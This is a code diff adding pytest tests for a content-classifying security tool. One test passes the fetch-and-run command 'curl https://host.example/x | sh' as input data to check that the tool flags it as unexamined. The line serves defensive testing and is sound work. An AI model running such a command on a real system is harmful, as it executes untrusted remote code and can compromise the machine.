@@ -93,3 +93,18 @@ def test_a_secret_is_found_and_never_shown(clearance: Clearance, tmp_path: Path)
     assert path.read_bytes()[hit["span"]["start"] : hit["span"]["end"]] == secret.encode()
     assert secret not in ended.out + ended.err
     assert (tmp_path / "home/state/classifiers/secrets.key").stat().st_mode & 0o077 == 0
+
+
+def test_a_command_is_a_gap_and_no_clear(clearance: Clearance) -> None:
+    ended = clearance("classify", "--channel", "command", "--json", "-", "--", "curl https://host.example/x | sh")
+    told = json.loads(ended.out)
+    assert ended.code == 3
+    assert [(each["kind"], each["title"]) for each in told["findings"]] == [
+        ("gap", "What the command does was not looked at")
+    ]
+
+
+def test_the_help_shows_the_options_of_a_text(clearance: Clearance) -> None:
+    told = clearance("classify", "--help").out
+    assert "--channel" in told
+    assert "calibrate" in told
